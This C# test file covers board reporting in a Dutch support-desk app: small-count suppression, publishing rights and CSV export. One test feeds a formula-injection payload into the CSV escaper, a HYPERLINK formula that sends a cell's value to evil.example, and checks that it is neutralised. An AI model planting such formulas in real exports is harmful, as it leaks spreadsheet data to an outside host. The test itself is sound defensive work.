using System.Net;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Steunpunt.Questions;
using Steunpunt.Signals.Reports;
using Steunpunt.Tenancy;
using Steunpunt.Tests.Infrastructure;

namespace Steunpunt.Tests.Signals;

/// <summary>A report computed by the app equals the same report computed by hand from a fixed set of contacts.</summary>
public sealed class BoardReportTests(Apps apps) : IClassFixture<Apps>
{
    private static readonly DateTimeOffset s_q3 = new(2026, 8, 12, 10, 0, 0, TimeSpan.Zero);
    private static readonly DateTimeOffset s_q2 = new(2026, 5, 12, 10, 0, 0, TimeSpan.Zero);

    [Theory, MemberData(nameof(Databases.All), MemberType = typeof(Databases))]
    public async Task The_report_figures_equal_the_hand_computed_fixture(string provider)
    {
        var app = await apps.ForAsync(provider);
        var (tenant, po, _) = await SeedFixtureAsync(app);

        var report = await ReportAsync(app, tenant, po, "2026-K3");
        var published = report.Dimensions.ToDictionary(d => d.Title, d => PublishedReport.Publish(d, report.Threshold));

        Assert.Equal((15, 4), (report.Total, report.PreviousTotal)); // 13 PO + 2 of unknown phase; 4 the quarter before
        Assert.Equal("<5", PublishedReport.Total(report.PreviousTotal, 5).Text);
        AssertRows(published["Kanaal"], ("Formulier", "11"), ("Telefoon", "<5"), ("Inloop", "<5"));
        AssertRows(published["Wie nam contact op"], ("Ouder/verzorger", "12"), ("Jongere", "<5"), ("Professional", "<5"));
        AssertRows(published["Schoolsoort"], ("basisschool", "9"), ("speciaal basisonderwijs", "<5"), ("Onbekend", "<5"), ("speciaal onderwijs", "<5"));
        AssertRows(published["Uitkomst"], ("Vraag beantwoord", "9"), ("Doorverwezen", "<5"), ("Nog niet bekend", "<5"));
        AssertRows(published["Gemeente"], ("Zandvliet", "10"), ("Onbekend", "<5"), ("Molenbroek", "<5"));
        AssertRows(published["Geboden hulp"], ("Informatie", "10"), ("Advies", "5"));
        var themes = await app.WithDbAsync(null, db => db.Themes.Where(t => t.Code == "T07" || t.Code == "T12").ToDictionaryAsync(t => t.Code, t => t.Name));
        AssertRows(published["Thema's"], (themes["T07"], "10"), ("Geen thema gekozen", "<5"), (themes["T12"], "<5"));
        // 9 on time, 2 late: the 2 is small, and would follow from the total of 11, so the 9 is hidden as well.
        AssertRows(published["Antwoordtijd (vragen via het formulier)"], ("Op tijd beantwoord", "x"), ("Te laat beantwoord", "<5"));
        Assert.Equal("11", published["Antwoordtijd (vragen via het formulier)"].Total!.Text);
        // A change is only shown where both periods are: the previous quarter had 4 contacts, so nothing there is shown.
        Assert.Equal("<5", published["Kanaal"].Rows.Single(r => r.Label == "Formulier").Before.Text);
        Every.Item(published.Values.SelectMany(d => d.Rows).Where(r => r.Before.Hidden || (r.Now.Hidden && r.Before.Value != 0)), r => Assert.Equal("", r.Change));
        // Against a previous period without any in that row, a hidden count still says "nieuw" (it only says: more than 0).
        Assert.Equal("nieuw", published["Kanaal"].Rows.Single(r => r.Label == "Telefoon").Change);
        // 0 before, 5 now: both shown, but against nothing a change says "nieuw", not "+5".
        Assert.Equal("nieuw", published["Geboden hulp"].Rows.Single(r => r.Label == "Advies").Change);

    }

    [Theory, MemberData(nameof(Databases.All), MemberType = typeof(Databases))]
    public async Task A_period_without_contacts_is_an_honest_empty_report_and_the_csv_has_the_same_figures(string provider)
    {
        var app = await apps.ForAsync(provider);
        var (tenant, po, _) = await SeedFixtureAsync(app);
        var staff = await app.SignInAsStaffAsync(tenant);

        var empty = await staff.Client.GetAsync(tenant.Path($"/rapportage?swv={po}&periode=2024-K1"));
        Assert.Equal(HttpStatusCode.OK, empty.StatusCode);
        Assert.Contains("geen contacten geregistreerd", Html.Text(await empty.Content.ReadAsStringAsync()), StringComparison.Ordinal);

        var page = System.Text.RegularExpressions.Regex.Replace(Html.Text(await staff.Client.GetStringAsync(tenant.Path($"/rapportage?swv={po}&periode=2026-K3"))), @"\s+", " ");
        Assert.Contains("15 contacten", page, StringComparison.Ordinal);
        var csv = await staff.Client.GetStringAsync(tenant.Path($"/rapportage?swv={po}&periode=2026-K3&handler=Csv"));
        Assert.Contains("Kanaal;Formulier;11;<5;", csv, StringComparison.Ordinal);
        Assert.Contains("Kanaal;Telefoon;<5;0;", csv, StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.NotFound, (await staff.Client.GetAsync(tenant.Path($"/rapportage?swv={po}&periode=2026-K9"))).StatusCode);
    }

    [Theory, MemberData(nameof(Databases.All), MemberType = typeof(Databases))]
    public async Task The_board_reads_only_what_staff_published_and_a_new_contact_does_not_move_it(string provider)
    {
        var app = await apps.ForAsync(provider);
        var (tenant, po, _) = await SeedFixtureAsync(app);
        var board = await app.SignInAsync(await BoardMemberAsync(app, tenant, po), tenant);

        // Nothing published yet: the board sees that, not the live figures.
        var before = Html.Text(await board.GetStringAsync(tenant.Path("/rapportage")));
        Assert.Contains("nog geen rapportage gepubliceerd", before, StringComparison.Ordinal);
        var asked = Html.Text(await board.GetStringAsync(tenant.Path("/rapportage?periode=2026-K3")));
        Assert.Contains("nog geen rapportage gepubliceerd", asked, StringComparison.Ordinal);
        Assert.DoesNotContain("contacten", asked, StringComparison.Ordinal);

        var staff = await PublishAsync(app, tenant, po, "2026-K3");
        // Only published periods can be chosen; another one is not there.
        Assert.Equal(HttpStatusCode.NotFound, (await board.GetAsync(tenant.Path("/rapportage?periode=2026-K2"))).StatusCode);
        Assert.Contains("15 contacten", Squeezed(await board.GetStringAsync(tenant.Path("/rapportage?periode=2026-K3"))), StringComparison.Ordinal);

        // One more contact in that quarter: staff see it at once, the board does not (until staff publish again).
        await app.WithDbAsync(tenant.Id, async db =>
        {
            db.Cases.Add(new SupportCase { ReceivedAt = s_q3.AddDays(3), Channel = Channel.Telefoon, Phase = SchoolPhases.PO, Sector = Sector.PO, Gemeente = "Zandvliet", LastActivityAt = s_q3 });
            await db.SaveChangesAsync();
        });
        Assert.Contains("16 contacten", Squeezed(await staff.Client.GetStringAsync(tenant.Path($"/rapportage?swv={po}&periode=2026-K3"))), StringComparison.Ordinal);
        Assert.Contains("15 contacten", Squeezed(await board.GetStringAsync(tenant.Path("/rapportage?periode=2026-K3"))), StringComparison.Ordinal);
        Assert.Contains("Kanaal;Telefoon;<5;0;", await board.GetStringAsync(tenant.Path("/rapportage?periode=2026-K3&handler=Csv")), StringComparison.Ordinal);

        // A board member cannot publish.
        var page = await board.GetStringAsync(tenant.Path("/rapportage?periode=2026-K3"));
        var attempt = await board.PostAsync(tenant.Path($"/rapportage?swv={po}&periode=2026-K3&handler=Publish"), SteunpuntApp.FormFrom(await staff.Client.GetStringAsync(tenant.Path($"/rapportage?swv={po}&periode=2026-K3"))));
        Assert.NotEqual(HttpStatusCode.Redirect, attempt.StatusCode);
        Assert.DoesNotContain("Publiceer", Html.Text(page), StringComparison.Ordinal);
        Assert.Contains("15 contacten", Squeezed(await board.GetStringAsync(tenant.Path("/rapportage?periode=2026-K3"))), StringComparison.Ordinal);
    }

    [Fact]
    public void A_csv_cell_that_a_spreadsheet_would_run_is_kept_as_text()
    {
        Assert.Equal("'=1+2", PublishedReport.CsvCell("=1+2"));
        Assert.Equal("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1;\"\"klik\"\")\"", PublishedReport.CsvCell("=HYPERLINK(\"http://evil.example/?x=\"&A1;\"klik\")"));
        Assert.Equal("'+7", PublishedReport.CsvCell("+7"));
        Assert.Equal("'-1", PublishedReport.CsvCell("-1"));
        Assert.Equal("'@SUM(A1)", PublishedReport.CsvCell("@SUM(A1)"));
        Assert.Equal("'\tkop", PublishedReport.CsvCell("\tkop"));
        Assert.Equal("\"'\rregel\"", PublishedReport.CsvCell("\rregel"));
        Assert.Equal("Zandvliet", PublishedReport.CsvCell("Zandvliet"));
        Assert.Equal("<5", PublishedReport.CsvCell("<5"));
    }

    private static string Squeezed(string html) => System.Text.RegularExpressions.Regex.Replace(Html.Text(html), @"\s+", " ");

    /// <summary>A board member of the given SWV.</summary>
    public static async Task<string> BoardMemberAsync(SteunpuntApp app, TestTenant tenant, Guid swv)
    {
        var email = await app.CreateAccountAsync(tenant, "Bestuurder", Steunpunt.Accounts.Policies.Board);
        await app.WithDbAsync(null, async db =>
        {
            (await db.Users.SingleAsync(u => u.Email == email)).PartnershipId = swv;
            await db.SaveChangesAsync();
        });
        return email;
    }

    /// <summary>A staff member publishes the report of one SWV and period for the board.</summary>
    public static async Task<StaffSession> PublishAsync(SteunpuntApp app, TestTenant tenant, Guid swv, string period, string summary = "Wat opvalt deze periode.",
        StaffSession? staffSession = null)
    {
        var staff = staffSession ?? await app.SignInAsStaffAsync(tenant);
        var page = await staff.Client.GetStringAsync(tenant.Path($"/rapportage?swv={swv}&periode={period}"));
        var published = await staff.Client.PostAsync(tenant.Path($"/rapportage?swv={swv}&periode={period}&handler=Publish"), SteunpuntApp.FormFrom(page, ("Summary", summary)));
        Assert.Equal(HttpStatusCode.Redirect, published.StatusCode);
        return staff;
    }

    private static void AssertRows(PublishedReport.Dimension d, params (string Label, string Shown)[] expected) =>
        Assert.Equal(expected.OrderBy(e => e.Label, StringComparer.Ordinal), d.Rows.Select(r => (r.Label, r.Now.Text)).OrderBy(e => e.Label, StringComparer.Ordinal));

    private static async Task<BoardReport.Report> ReportAsync(SteunpuntApp app, TestTenant tenant, Guid swv, string period)
    {
        await using var scope = app.Services.CreateAsyncScope();
        scope.ServiceProvider.GetRequiredService<CurrentTenant>().Set(new TenantEntry(tenant.Id, tenant.Slug, tenant.Name, []));
        var db = scope.ServiceProvider.GetRequiredService<Steunpunt.Data.SteunpuntDb>();
        var partnership = await db.Set<Partnership>().SingleAsync(p => p.Id == swv);
        return await scope.ServiceProvider.GetRequiredService<BoardReport>().BuildAsync(partnership, ReportPeriod.Parse(period)!);
    }

    /// <summary>A steunpunt for a PO and a VO partnership, with the contacts of the hand-computed report.</summary>
    public static async Task<(TestTenant Tenant, Guid Po, Guid Vo)> SeedFixtureAsync(SteunpuntApp app)
    {
        var tenant = await app.CreateTenantAsync();
        var vo = new Partnership { Name = $"SWV VO {tenant.Slug}", Sector = Sector.VO };
        await app.WithDbAsync(tenant.Id, async db =>
        {
            db.Set<Partnership>().Add(vo);
            void Add(int n, DateTimeOffset at, Channel channel, RequesterRole role, SchoolPhases phase, Outcome outcome, string gemeente,
                string themes, HelpGiven help, bool? onTime)
            {
                for (var i = 0; i < n; i++)
                {
                    db.Cases.Add(new SupportCase
                    {
                        ReceivedAt = at.AddMinutes(i),
                        Channel = channel,
                        RequesterRole = role,
                        Phase = phase,
                        Sector = Sectors.Of(phase),
                        Outcome = outcome,
                        Gemeente = gemeente,
                        ThemeCodes = ThemeSet.Of(themes.Split(',')),
                        HelpGiven = help,
                        AnsweredOnTime = onTime,
                        LastActivityAt = at,
                    });
                }
            }
            Add(7, s_q3, Channel.Formulier, RequesterRole.Ouder, SchoolPhases.PO, Outcome.Beantwoord, "Zandvliet", "T07", HelpGiven.Informatie, true);
            Add(3, s_q3, Channel.Telefoon, RequesterRole.Ouder, SchoolPhases.SBO, Outcome.Doorverwezen, "Zandvliet", "T07,T12", HelpGiven.Informatie | HelpGiven.Advies, null);
            Add(2, s_q3, Channel.Formulier, RequesterRole.Jongere, SchoolPhases.PO, Outcome.Beantwoord, "Molenbroek", "", HelpGiven.Advies, false);
            Add(1, s_q3, Channel.Inloop, RequesterRole.Professional, SchoolPhases.SO, Outcome.Onbekend, "", "T12", HelpGiven.None, null);
            Add(2, s_q3, Channel.Formulier, RequesterRole.Ouder, SchoolPhases.None, Outcome.Onbekend, "", "", HelpGiven.None, true);
            Add(5, s_q3, Channel.Formulier, RequesterRole.Ouder, SchoolPhases.VO, Outcome.Beantwoord, "Zandvliet", "T03", HelpGiven.Informatie, true);
            Add(4, s_q2, Channel.Formulier, RequesterRole.Ouder, SchoolPhases.PO, Outcome.Beantwoord, "Zandvliet", "T07", HelpGiven.Informatie, true);
            Add(1, new DateTimeOffset(2026, 2, 1, 10, 0, 0, TimeSpan.Zero), Channel.Telefoon, RequesterRole.Ouder, SchoolPhases.PO, Outcome.Beantwoord, "Zandvliet", "T07", HelpGiven.None, null);
            await db.SaveChangesAsync();
        });
        var po = await app.WithDbAsync(tenant.Id, db => db.Set<Partnership>().Where(p => p.Sector == Sector.PO).Select(p => p.Id).SingleAsync());
        return (tenant, po, vo.Id);
    }
}
